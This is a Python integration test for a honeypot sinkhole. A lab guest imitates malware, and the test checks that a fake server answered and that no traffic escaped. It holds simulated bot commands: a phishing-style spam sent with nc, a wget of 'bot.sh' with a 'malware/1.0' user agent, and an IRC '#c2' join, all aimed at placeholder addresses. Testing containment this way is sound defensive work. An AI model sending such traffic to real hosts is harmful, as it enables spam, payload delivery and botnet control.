#!/usr/bin/python3
# SPDX-License-Identifier: ISC
# needs: both uml image:busybox tool:sshpass tool:ssh tool:tcpdump timeout:300
"""A honeypot sends mail and requests to anybody: a plausible server answers,
nothing of it reaches the outside, and the evidence has mail and request."""
import hashlib
import json
import sys
import time

from honeynet import Net, equal, eventually, main, true, two

POLICY = """{tcp: 3/hour, udp: 3/hour, icmp: 3/hour}
  rules:
    - {name: mail, do: sinkhole, protocol: tcp, ports: [25, 587], sink: smtp}
    - {name: web, do: sinkhole, protocol: tcp, ports: [80, 8080], sink: http}
    - {name: chat, do: sinkhole, protocol: tcp, ports: 6667, sink: tcp}"""
net = Net(two("sinkhole", outbound=POLICY), "sinkhole")
state = {}
MAIL = "Subject: your account\\r\\nFrom: bank@example.net\\r\\n\\r\\nis locked\\r\\n"


def events(kind):
    """Events of one type, from all files."""
    found = []
    for path in sorted((net.evidence() / "events").glob("*.json")):
        for line in path.read_text(errors="replace").splitlines():
            try:
                v = json.loads(line)
            except ValueError:
                continue
            if v["event_type"] == kind:
                found.append(v)
    return found


def test_up():
    """two guests, and rules that send to the sinkhole"""
    net.up()
    true(eventually(lambda: "root" in net.ssh("192.0.2.11", "id -un", check=False)[1], 20), "no ssh")
    state["witness"] = net.lab_start("tcpdump", "-i", "any", "-n", "-l", "-Q", "in", "--immediate-mode",
                                     "tcp[tcpflags] & tcp-syn != 0 and tcp[tcpflags] & tcp-ack == 0 and src 192.0.2.11")
    time.sleep(1)


def test_mail():
    """a mail to an address that nobody has is taken"""
    talk = ("EHLO zombie\\r\\nMAIL FROM:<spam@example.net>\\r\\nRCPT TO:<a@example.org>\\r\\n"
            "RCPT TO:<b@example.org>\\r\\nDATA\\r\\n" + MAIL + ".\\r\\nQUIT\\r\\n")
    _, out = net.ssh("192.0.2.11", f"(printf '{talk}'; sleep 3) | nc -w 5 198.51.100.7 587", timeout=60)
    true(out.startswith("220 "), out)
    true("250-PIPELINING" in out and "354 " in out and "queued as" in out, out)


def test_request():
    """a download and an upload find a web server anywhere"""
    _, out = net.ssh("192.0.2.11", "wget -q -O - -U malware/1.0 http://198.51.100.66/; "
                     "wget -O - http://198.51.100.66:8080/bot.sh 2>&1; true", timeout=60)
    true("<h1>" in out, out)
    true("404" in out, out)
    _, out = net.ssh("192.0.2.11", "printf 'NICK bot\\r\\nUSER a b c d\\r\\nJOIN #c2\\r\\n' | nc -w 3 203.0.113.67 6667; true", timeout=60)
    true(" 001 bot " in out, out)


def test_neighbour():
    """it plays a neighbour's address too"""
    _, out = net.ssh("192.0.2.11", "(sleep 2) | nc -w 4 192.0.2.77 25 </dev/null; (sleep 2) | nc -w 4 203.0.113.1 25; true", timeout=60)
    true("220 " in out, out)


def test_nothing_leaves():
    """the witness outside saw none of it"""
    time.sleep(1)
    w = state["witness"]
    w.terminate()
    out, _ = w.communicate(timeout=20)
    equal([line for line in out.splitlines() if "Flags [S]" in line], [], "connections that left")


def test_evidence():
    """mail, requests and chat are in the evidence, with their flows"""
    mails = eventually(lambda: [v for v in events("smtp") if v["skep"].get("status") == 250], 20)
    true(mails, "no mail in the evidence")
    v = mails[0]
    equal((v["src_ip"], v["dest_ip"], v["dest_port"]), ("192.0.2.11", "198.51.100.7", 587), "whose mail it was")
    equal(v["smtp"]["rcpt_to"], ["<a@example.org>", "<b@example.org>"], "recipients")
    equal(v["email"]["subject"], "your account", "subject")
    body = MAIL.encode().decode("unicode_escape").encode()
    equal(v["skep"]["body"]["sha256"], hashlib.sha256(body).hexdigest(), "hash")
    equal((net.evidence() / v["skep"]["body"]["file"]).read_bytes(), body, "the mail itself")
    requests = {v["http"]["url"]: v for v in events("http")}
    true("/" in requests and "/bot.sh" in requests, requests)
    equal(requests["/"]["http"]["http_user_agent"], "malware/1.0", "user agent")
    equal(requests["/bot.sh"]["dest_port"], 8080, "the port that was asked for")
    true(any("NICK bot" in v["skep"].get("sample", "") for v in events("sinkhole")), "no chat")
    flows = eventually(lambda: [f for f in events("flow") if f["flow_id"] == v["flow_id"]], 40)
    true(flows, "the mail's flow is not told")
    equal(flows[0]["skep"]["verdict"], "sinkhole", "its verdict")
    equal(flows[0]["community_id"], v["community_id"], "community id")


if __name__ == "__main__":
    try:
        code = main([test_up, test_mail, test_request, test_neighbour, test_nothing_leaves, test_evidence])
    finally:
        net.end()
    sys.exit(code)
